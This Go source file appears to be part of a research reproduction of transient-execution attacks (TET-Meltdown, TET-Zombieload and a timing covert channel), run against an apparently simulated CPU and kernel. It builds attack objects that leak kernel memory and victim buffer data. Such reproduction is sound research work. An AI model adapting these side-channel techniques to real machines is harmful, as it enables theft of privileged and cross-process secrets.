package core

import (
	"errors"

	"whisper/internal/cpu"
	"whisper/internal/kernel"
)

// UnmappedVA is a canonical user address no kernel maps; faulting loads from
// it open a transient window on every CPU model (not-present fault), which
// the covert channel and Zombieload probes rely on.
const UnmappedVA = 0x1300000000

// Meltdown is TET-Meltdown (§4.3.1): a Meltdown read whose covert channel is
// the transient execution time itself.
type Meltdown struct {
	k       *kernel.Kernel
	pr      *Prober
	Batches int // vote batches per byte
	// MedianDecode replaces the paper's per-batch argmax vote with an
	// argmax-of-per-value-medians decode, which tolerates several times
	// more timer jitter (NoiseSweep experiment).
	MedianDecode bool
}

// NewTETMeltdown builds the attack on a booted kernel. It does not check
// whether the CPU is actually vulnerable — running it on a patched model is
// exactly the Table 2 ✗ experiment.
func NewTETMeltdown(k *kernel.Kernel) (*Meltdown, error) {
	if k == nil {
		return nil, errNotBooted
	}
	pr, err := NewProber(k.Machine(), SuppressSignal, true)
	if err != nil {
		return nil, err
	}
	return &Meltdown{k: k, pr: pr, Batches: 5}, nil
}

// LeakByte recovers the byte at kernel virtual address va.
func (a *Meltdown) LeakByte(va uint64) (byte, error) {
	if a.MedianDecode {
		return a.pr.SweepByteMedian(va, a.Batches, SignLonger, nil)
	}
	return a.pr.SweepByte(va, a.Batches, SignLonger, nil)
}

// Leak recovers n bytes starting at va.
func (a *Meltdown) Leak(va uint64, n int) (LeakResult, error) {
	return LeakBytes(a.k.Machine(), "TET-Meltdown", n, func(i int) (byte, error) {
		return a.LeakByte(va + uint64(i))
	})
}

// Zombieload is TET-ZBL (§4.3.2): sampling stale line-fill-buffer data
// through an assisted faulting load, decoded through the TET channel. The
// trigger path *shortens* the window (the assist is cut short), so the
// decode takes the argmin.
type Zombieload struct {
	k       *kernel.Kernel
	pr      *Prober
	Batches int
}

// NewTETZombieload builds the attack.
func NewTETZombieload(k *kernel.Kernel) (*Zombieload, error) {
	if k == nil {
		return nil, errNotBooted
	}
	pr, err := NewProber(k.Machine(), SuppressSignal, true)
	if err != nil {
		return nil, err
	}
	return &Zombieload{k: k, pr: pr, Batches: 5}, nil
}

// SampleByte leaks whatever byte the victim currently moves through the
// LFB; victim is invoked before every probe to model the concurrently
// running victim loop.
func (a *Zombieload) SampleByte(victim func()) (byte, error) {
	return a.pr.SweepByte(UnmappedVA, a.Batches, SignShorter, victim)
}

// Leak samples the victim's secret stream: the victim loops over its secret
// (one VictimTouch per byte) while the attacker samples each position.
func (a *Zombieload) Leak(n int) (LeakResult, error) {
	return LeakBytes(a.k.Machine(), "TET-Zombieload", n, func(i int) (byte, error) {
		return a.SampleByte(func() { a.k.VictimTouch(i) })
	})
}

// CovertChannel is TET-CC: sender and receiver share the probe gadget; the
// sender encodes a bit in whether the transient Jcc triggers, the receiver
// reads it from the ToTE. Works on every model in Table 2 because it needs
// no data forwarding at all.
type CovertChannel struct {
	m       *cpu.Machine
	pr      *Prober
	RepsBit int // probes per bit (majority vote)
	CalReps int // calibration probes per symbol
	thresh  uint64
	oneLong bool
	trained bool
}

// NewTETCovertChannel builds the channel on a machine.
func NewTETCovertChannel(k *kernel.Kernel) (*CovertChannel, error) {
	if k == nil {
		return nil, errNotBooted
	}
	pr, err := NewProber(k.Machine(), SuppressSignal, false)
	if err != nil {
		return nil, err
	}
	return &CovertChannel{m: k.Machine(), pr: pr, RepsBit: 3, CalReps: 16}, nil
}

// Train runs the calibration preamble.
func (c *CovertChannel) Train() error {
	th, oneLong, err := c.pr.Calibrate(UnmappedVA, c.CalReps)
	if err != nil {
		return err
	}
	c.thresh, c.oneLong, c.trained = th, oneLong, true
	return nil
}

// sendBit transmits one bit and returns the receiver's decision.
func (c *CovertChannel) sendBit(bit bool) (bool, error) {
	votes := 0
	for r := 0; r < c.RepsBit; r++ {
		tote, err := c.pr.ProbeStable(UnmappedVA, bit)
		if err != nil {
			return false, err
		}
		long := tote > c.thresh
		if long == c.oneLong {
			votes++
		}
	}
	return votes*2 > c.RepsBit, nil
}

// Transfer sends data through the channel and returns what the receiver
// decoded, with throughput accounting.
func (c *CovertChannel) Transfer(data []byte) (LeakResult, error) {
	if !c.trained {
		if err := c.Train(); err != nil {
			return LeakResult{}, err
		}
	}
	return LeakBytes(c.m, "TET-CC", len(data), func(i int) (byte, error) {
		return SendByte(data[i], c.sendBit)
	})
}

// errNotBooted guards attack constructors.
var errNotBooted = errors.New("core: nil kernel")
